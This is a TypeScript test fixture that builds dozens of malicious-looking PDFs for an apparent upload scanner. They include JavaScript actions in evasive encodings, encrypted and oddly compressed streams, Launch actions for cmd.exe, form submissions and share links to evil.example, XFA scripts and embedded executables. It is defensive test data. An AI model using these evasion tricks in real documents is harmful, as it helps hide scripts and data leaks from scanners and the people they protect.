/** PDFs that run or fetch something automatically, in every spelling that viewers accept. */
import { deflateSync } from 'node:zlib';
import { doc } from './doc.ts';
import { docx } from './genuine-texts.ts';
import { CATALOGUE, CONTENTS, objectStream, PAGE, PAGES, pdf, stream } from './pdf.ts';
import { lockedPdf, type Protection, packedPdf, updatedPdf } from './pdf-variants.ts';

/** What is wrong, the file name, the document, and the expected fault. */
export type Harmful = [
  what: string,
  name: string,
  content: Buffer,
  fault: 'unsafeFile' | 'wrongContent' | 'damagedFile',
];

const base = [CATALOGUE, PAGES, PAGE, CONTENTS];
const catalogue = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const page = (more: string) => `${PAGE.slice(0, -2)} ${more} >>`;
/** A PDF with additional entries in the catalogue, and additional objects from number 5 on. */
const withCatalogue = (more: string, ...objects: string[]) => [catalogue(more), PAGES, PAGE, CONTENTS, ...objects];
const withPage = (more: string, ...objects: string[]) => [CATALOGUE, PAGES, page(more), CONTENTS, ...objects];
const opening = (action: string) => withCatalogue(`/OpenAction << ${action} >>`);
const SCRIPT = '/S /JavaScript /JS (app.alert\\(1\\))';
const scripted = opening(SCRIPT);

/** The spellings of a script action. */
const SPELLINGS: Record<string, string[]> = {
  plainly: scripted,
  'with blanks after the key': opening('/S   \t\r\n/JavaScript /JS (1)'),
  'with zeros and form feeds after the key': opening('/S\0\f/JavaScript /JS (1)'),
  'with a comment after the key': opening('/S % >> nothing\n/JavaScript /JS (1)'),
  'with many comments after the key': opening(`/S ${'%x\r'.repeat(300)}/JavaScript /JS (1)`),
  'with a long comment after the key': opening(`/S %${'x'.repeat(5000)}\n/JavaScript /JS (1)`),
  'without blanks': opening('/S/JavaScript/JS(1)'),
  'with a number in its name': opening('/S /J#61vaScript /JS (1)'),
  'in numbers only': opening('/#53 /#4a#61#76#61#53#63#72#69#70#74 /#4A#53 (1)'),
  'as a name that is elsewhere': withCatalogue('/OpenAction << /S 5 0 R /JS (1) >>', '/JavaScript'),
  'as a script that is elsewhere': withCatalogue('/OpenAction << /S /JavaScript /JS 5 0 R >>', stream('app.alert(1)')),
  'as an action that is elsewhere': withCatalogue('/OpenAction 5 0 R', `<< ${SCRIPT} >>`),
  'as an action that is elsewhere and elsewhere again': withCatalogue('/OpenAction 5 0 R', '6 0 R', `<< ${SCRIPT} >>`),
  'in numbers of sixteen': opening('/S /JavaScript /JS <6170702e616c657274283129>'),
  'behind an action that only turns a page': opening(`/S /GoTo /D [3 0 R /Fit] /Next << ${SCRIPT} >>`),
  'in a row of actions': opening(`/S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> << ${SCRIPT} >>]`),
  'under a key that comes twice, first': opening('/S /JavaScript /S /GoTo /D [3 0 R /Fit]'),
  'under a key that comes twice, last': opening(`/S /GoTo ${SCRIPT}`),
  'in a list of the document': withCatalogue(`/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>`),
  'in a list of a list of the document': withCatalogue(
    '/Names << /JavaScript << /Kids [5 0 R] >> >>',
    `<< /Limits [(a) (b)] /Names [(a) 6 0 R] >>`,
    `<< ${SCRIPT} >>`,
  ),
  'when a page is opened': withPage(`/AA << /O << ${SCRIPT} >> >>`),
  'when the document is closed': withCatalogue(`/AA << /WC << ${SCRIPT} >> >>`),
  'when a field is looked at': withPage(
    `/Annots [<< /Subtype /Widget /FT /Tx /T (a) /AA << /Fo << ${SCRIPT} >> >> >>]`,
  ),
  'that formats a field': withPage(`/Annots [<< /Subtype /Widget /FT /Tx /T (a) /AA << /F << ${SCRIPT} >> >> >>]`),
  'on a button': withPage(`/Annots [<< /Subtype /Widget /FT /Btn /T (a) /A << ${SCRIPT} >> >>]`),
  'on a link': withPage(`/Annots [<< /Subtype /Link /A << ${SCRIPT} >> >>]`),
  'on a link, as an address': withPage(
    '/Annots [<< /Subtype /Link /A << /S /URI /URI (java\\tscript:app.alert\\(1\\)) >> >>]',
  ),
  'in an outline': withCatalogue('/Outlines 5 0 R', '<< /First 6 0 R >>', `<< /Title (a) /A << ${SCRIPT} >> >>`),
  'in a form': withCatalogue(`/AcroForm << /Fields [<< /T (a) /Kids [<< /A << ${SCRIPT} >> >>] >>] >>`),
  'in an object that nothing names': [...base, `<< ${SCRIPT} >>`],
  'in a model that moves': withPage(
    '/Annots [<< /Subtype /3D /3DD 5 0 R >>]',
    stream('U3D', '/Subtype /U3D /OnInstantiate 6 0 R'),
    stream('1'),
  ),
};

const spelt = Object.entries(SPELLINGS).map(
  ([spelling, objects]): Harmful => [`a script ${spelling}`, 'cv.pdf', pdf(objects), 'unsafeFile'],
);
const speltInPacked = Object.entries(SPELLINGS).map(
  ([spelling, objects]): Harmful => [`a packed script ${spelling}`, 'cv.pdf', packedPdf(objects), 'unsafeFile'],
);

const PROTECTIONS: Protection[] = ['RC4', 'AES-128', 'AES-256'];
const locked = PROTECTIONS.flatMap((protection): Harmful[] => [
  [
    `a script in a file protected by ${protection} without a password`,
    'cv.pdf',
    lockedPdf(scripted, protection),
    'unsafeFile',
  ],
  [
    `a packed script in a file protected by ${protection} without a password`,
    'cv.pdf',
    lockedPdf([...base, objectStream(`9 0 << ${SCRIPT} >>`)], protection),
    'unsafeFile',
  ],
  [
    `a script that a password does not hide (${protection})`,
    'cv.pdf',
    lockedPdf(scripted, protection, 'x'),
    'unsafeFile',
  ],
]);

const ascii = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
const plain = (bytes: Buffer) => bytes;
/** Run-length encoding with runs of single bytes, so that nothing is compressed. */
const runs = (bytes: Buffer) =>
  Buffer.concat([...bytes].map((byte) => Buffer.from([0, byte])).concat(Buffer.from([128])));
const predicted = (bytes: Buffer) => {
  const columns = 10;
  const rows = Array.from({ length: Math.ceil(bytes.length / columns) }, (_, row) =>
    Buffer.concat([Buffer.from([0]), bytes.subarray(row * columns, (row + 1) * columns)], columns + 1).map(
      (byte, at) => (at > 0 && byte === 0 ? 32 : byte),
    ),
  );
  return deflateSync(Buffer.concat(rows));
};
const PACKINGS: [how: string, filter: string, pack: (bytes: Buffer) => Buffer, more: string][] = [
  ['in hexadecimal numbers', '[/ASCIIHexDecode /FlateDecode]', (bytes: Buffer) => ascii(deflateSync(bytes)), ''],
  ['by short names of how', '[/AHx /Fl]', (bytes: Buffer) => ascii(deflateSync(bytes)), ''],
  ['by names in numbers', '/Fl#61teDecode', deflateSync, ''],
  ['in runs', '/RunLengthDecode', runs, ''],
  ['by differences', '/FlateDecode', predicted, '/DecodeParms << /Predictor 12 /Columns 10 >>'],
  ['not at all', '[]', plain, ''],
  ['twice', '[/FlateDecode /FlateDecode]', (bytes: Buffer) => deflateSync(deflateSync(bytes)), ''],
];
const oddlyPacked = PACKINGS.map(
  ([how, filter, pack, more]): Harmful => [
    `a script packed ${how}`,
    'cv.pdf',
    packedPdf(scripted, { filter, pack, more }),
    'unsafeFile',
  ],
);

const changed: Harmful[] = [
  ['a script that was added later', 'cv.pdf', updatedPdf(pdf(base), { 1: scripted[0] ?? '' }), 'unsafeFile'],
  ['a script in an old version', 'cv.pdf', updatedPdf(pdf(scripted), { 1: CATALOGUE }), 'unsafeFile'],
  ['a script in packed objects without a type', 'cv.pdf', packedPdf(scripted, { isTyped: false }), 'unsafeFile'],
  [
    'a script that only the end of the file names',
    'cv.pdf',
    pdf(base, { trailer: `/Extra << /OpenAction << ${SCRIPT} >> >> ` }),
    'unsafeFile',
  ],
  [
    'a script behind a spoilt table of objects',
    'cv.pdf',
    Buffer.from(
      pdf(scripted)
        .toString('latin1')
        .replace(/\d{10} 00000 n/g, '0000000007 00000 n'),
      'latin1',
    ),
    'unsafeFile',
  ],
  [
    'a script in an object that stands in the bytes of a picture',
    'cv.pdf',
    pdf([...base, stream(`x\n7 0 obj << ${SCRIPT} >> endobj\n`)]),
    'unsafeFile',
  ],
];

/** Actions of other types that run automatically or lead where they must not. */
const ACTIONS: Record<string, string[]> = {
  'starts a program when it is opened': opening('/S /Launch /F (cmd.exe)'),
  'starts a program on a click': withPage('/Annots [<< /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) >> >> >>]'),
  'takes data from a file': opening('/S /ImportData /F (a.fdf)'),
  'opens an attachment': opening('/S /GoToE /T << /R /C /N (a) >>'),
  'plays something': opening('/S /Rendition /OP 0 /R << /S /MR >>'),
  'calls a player': withPage('/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]'),
  'calls a script of a player': opening('/S /RichMediaExecute /CMD << /C (a) >>'),
  'sends its form when it is opened': opening('/S /SubmitForm /F << /FS /URL /F (https://evil.example/) >>'),
  'sends its form when a page is shown': withPage('/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>'),
  'opens another file when it is opened': opening('/S /GoToR /F (other.pdf) /D [0 /Fit]'),
  'opens an address when it is opened': opening('/S /URI /URI (https://evil.example/)'),
  'opens an address when a page is shown': withPage('/AA << /O << /S /URI /URI (https://evil.example/) >> >>'),
  'opens an address behind a turn of the page': opening(
    '/S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://e.example) >>',
  ),
  'leads to a share': withPage(
    '/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >> >>]',
  ),
  'leads to a share by a description of it': withPage(
    '/Annots [<< /Subtype /Link /A << /S /GoToR /F 5 0 R /D [0 /Fit] >> >>]',
    '<< /Type /Filespec /UF <FEFF005C005C006500760069006C005C0061> >>',
  ),
  'leads to a share by an address': withPage(
    '/Annots [<< /Subtype /Link /A << /S /URI /URI (file://evil.example/a) >> >>]',
  ),
  'fetches its bytes from a share': [...base, '<< /F (//evil.example/a) /Length 0 >>\nstream\n\nendstream'],
  'fetches its bytes from the network': [
    ...base,
    '<< /F << /FS /URL /F (http://e.example/) >> /Length 0 >>\nstream\n\nendstream',
  ],
};
const acting = Object.entries(ACTIONS).map(
  ([what, objects]): Harmful => [`a PDF that ${what}`, 'cv.pdf', pdf(objects), 'unsafeFile'],
);

const template = (body: string) =>
  `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>${body}</template></xdp:xdp>`;
const form = (...pieces: string[]) =>
  pdf(
    withCatalogue(
      `/AcroForm << /Fields [] /XFA [${pieces.map((_, index) => `(p${index}) ${5 + index} 0 R`).join(' ')}] >>`,
      ...pieces.map((piece) => stream(deflateSync(piece), '/Filter /FlateDecode')),
    ),
  );
const SCRIPTED_FIELD = template('<field><event activity="click"><script>1</script></event></field>');
const forms: Harmful[] = [
  ['a form in XML with a script', 'cv.pdf', form(SCRIPTED_FIELD), 'unsafeFile'],
  [
    'a form in XML with a script between two pieces',
    'cv.pdf',
    form(SCRIPTED_FIELD.slice(0, 95), SCRIPTED_FIELD.slice(95)),
    'unsafeFile',
  ],
  [
    'a form in XML with a script under a prefix, in UTF-16',
    'cv.pdf',
    pdf(
      withCatalogue(
        '/AcroForm << /XFA 5 0 R >>',
        stream(Buffer.from(`\ufeff<a><b:script xmlns:b="c">1</b:script></a>`, 'utf16le')),
      ),
    ),
    'unsafeFile',
  ],
  [
    'a form in XML that sends itself',
    'cv.pdf',
    form(template('<event activity="ready"><submit target="http://e.example"/></event>')),
    'unsafeFile',
  ],
  ['a form in XML with a document type', 'cv.pdf', form('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), 'unsafeFile'],
  ['a form in XML that is cut off', 'cv.pdf', form('<a><b>'), 'unsafeFile'],
];

const attached = (name: string, content: Buffer | string) =>
  pdf(
    withCatalogue(
      `/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>`,
      `<< /Type /Filespec /F (${name}) /EF << /F 6 0 R >> >>`,
      stream(deflateSync(content), '/Type /EmbeddedFile /Filter /FlateDecode'),
    ),
  );
const ATTACHED: [what: string, name: string, content: Buffer | string][] = [
  ['a program', 'a.exe', 'MZ\u0090'],
  ['a program under the name of a text', 'cv.txt', 'MZ\u0090\0'],
  ['a script of a shell', 'cv.txt', '#!/bin/sh\n'],
  ['a batch file', 'cv.bat', '@echo off'],
  ['a batch file with a dot behind its name', 'cv.bat. ', '@echo off'],
  ['a web page', 'cv.html', '<html><script>1</script></html>'],
  ['a web page under the name of a text', 'cv.txt', '<html><script>1</script></html>'],
  ['XML with a script', 'cv.xml', '<?xml version="1.0"?><a><script>1</script></a>'],
  ['XML with a document type', 'cv.xml', '<?xml version="1.0"?><!DOCTYPE a><a/>'],
  ['a PDF with a script', 'cv.pdf', pdf(scripted)],
  ['a text with macros', 'cv.docx', docx({ name: 'word/vbaProject.bin', content: 'x' })],
  ['an old text with macros', 'cv.doc', doc(['WordDocument', 'Macros', '_VBA_PROJECT'])],
  ['bytes of an unknown kind', 'cv', Buffer.from([1, 2, 3, 0, 255, 254])],
];
const attachments = ATTACHED.map(
  ([what, name, content]): Harmful => [
    `a PDF with an attachment: ${what}`,
    'cv.pdf',
    attached(name, content),
    'unsafeFile',
  ],
);

export const harmfulPdfs: Harmful[] = [
  ...spelt,
  ...speltInPacked,
  ...locked,
  ...oddlyPacked,
  ...changed,
  ...acting,
  ...forms,
  ...attachments,
];
